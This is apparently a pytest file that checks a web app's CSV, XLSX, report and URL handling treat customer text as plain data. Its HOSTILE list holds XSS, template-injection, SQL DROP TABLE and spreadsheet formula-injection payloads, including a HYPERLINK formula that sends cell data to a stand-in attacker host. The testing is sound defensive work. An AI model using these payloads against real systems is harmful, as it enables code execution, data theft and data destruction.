"""Whatever customers wrote is text: in data, in files, in the address."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from page import spreadsheets
from page.report import embedded
from tests.page.conftest import Visitor

HOSTILE = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!--<script>",
    "]]>",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "{a|rich} text {b|of} charts",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＠SUM(1)",
    "\u202eelif.exe\u202c",
    "\u2066isolated\u2069",
    "nul\x00inside",
    "bell\x07 escape\x1b[31m",
    "quotes \" ' ` , ; \\",
    "=" * 40_000,
    "x" * 100_000,
    "مرحبا <b>bold</b> 🙂",
    "'; DROP TABLE core.messages; --",
    "%3Cscript%3E",
    "&lt;b&gt;&amp;",
]
_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def cells(file: Path) -> list[list[tuple[str, str]]]:
    """Type and text of each cell of a sheet, read from its XML."""
    with zipfile.ZipFile(file) as book:
        names = book.namelist()
        assert not any("externalLink" in name or "vba" in name.lower() for name in names)
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    assert list(sheet.iter(f"{_MAIN}f")) == []  # no formula
    assert list(sheet.iter(f"{_MAIN}hyperlink")) == []
    return [
        [(cell.get("t", "n"), "".join(cell.itertext())) for cell in row]
        for row in sheet.iter(f"{_MAIN}row")
    ]


def test_in_a_sheet_every_text_is_text(tmp_path: Path) -> None:
    file = tmp_path / "rows.xlsx"
    rows = [(text, number) for number, text in enumerate(HOSTILE)]
    spreadsheets.write_xlsx(file, ["=label", "b"], rows, "Asia/Riyadh", right_to_left=True)
    found = cells(file)
    assert len(found) == len(HOSTILE) + 1
    assert {row[0][0] for row in found} == {"inlineStr"}
    assert [row[1] for row in found[1:]] == [("n", str(n)) for n in range(len(HOSTILE))]
    assert max(len(row[0][1]) for row in found) <= 32_767


def test_in_a_csv_no_text_begins_as_a_formula(tmp_path: Path) -> None:
    file = tmp_path / "rows.csv"
    spreadsheets.write_csv(file, ["=label"], [(text,) for text in HOSTILE], "Asia/Riyadh")
    with file.open(encoding="utf-8-sig", newline="") as read:
        found = [row[0] for row in csv.reader(read)]
    assert len(found) == len(HOSTILE) + 1
    for text in found:
        assert text.lstrip()[:1] not in tuple("=+-@＝＋－＠"), text[:20]
        assert text[:1] not in ("\t", "\r", "\n")
        assert "\x00" not in text
        assert "\x1b" not in text
    assert found[1] == HOSTILE[0]  # markup stays as it was written
    assert found[-5] == HOSTILE[-5]  # and so does a long text


def test_numbers_that_are_negative_stay_numbers(tmp_path: Path) -> None:
    file = tmp_path / "rows.csv"
    spreadsheets.write_csv(file, ["n"], [(-2,), (-0.5,), (None,)], "Asia/Riyadh")
    assert file.read_text(encoding="utf-8-sig").splitlines() == ["n", "-2", "-0.5", '""']


@pytest.mark.parametrize("text", HOSTILE)
def test_in_a_report_no_text_ends_its_element(text: str) -> None:
    written = embedded({"name": text, text[:50]: [text]})
    assert "<" not in written
    assert ">" not in written
    assert json.loads(written) == {"name": text, text[:50]: [text]}


def test_in_an_address_it_is_a_value(tiny: Visitor) -> None:
    for text in HOSTILE[:24:2]:
        if "\x00" not in text:
            answer = tiny.get("/data/view/tiny", params={"tag": text, "period": "7d"})
            assert answer.status_code == 200
            assert answer.headers["content-type"] == "application/json"
            wrong = tiny.get("/data/view/tiny", params={text: "1"})
            assert (wrong.status_code, wrong.headers["content-type"]) == (400, "application/json")
            page = tiny.get("/", params={"view": text, "lang": text, "tag": text})
            assert text not in page.text or text == "-2+3"


def export(visitor: Visitor, path: str, **given: Any) -> bytes:
    answer = visitor.get(path, params=given)
    assert answer.status_code == 200
    assert answer.headers["content-disposition"].startswith('attachment; filename="hatif-')
    return answer.content


def test_files_hold_the_rows_of_the_page(visitor: Visitor, tmp_path: Path) -> None:
    shown = visitor.json("/data/view/volume", period="year", grain="month")["parts"][1]
    given = {"period": "year", "grain": "month", "lang": "ar"}
    text = export(visitor, "/export/volume/over_time.csv", **given).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text)))
    assert read[0] == ["التاريخ", "الرسائل الواردة", "الرسائل الصادرة", "الجلسات"]
    assert read[1:] == [[row[0], *map(str, row[1:])] for row in shown["rows"]]

    file = tmp_path / "rows.xlsx"
    file.write_bytes(export(visitor, "/export/volume/over_time.xlsx", **given))
    assert [[int(text) for _, text in row[1:]] for row in cells(file)[1:]] == [
        row[1:] for row in shown["rows"]
    ]


def test_instants_in_files_are_on_the_clock_of_the_reports(visitor: Visitor) -> None:
    shown = visitor.json("/data/view/now")["parts"][2]["rows"]
    text = export(visitor, "/export/now/waiting.csv").decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text)))[1:]
    assert len(read) == len(shown) > 0
    hour = int(shown[0][4][11:13])
    assert int(read[0][4][11:13]) == (hour + 3) % 24
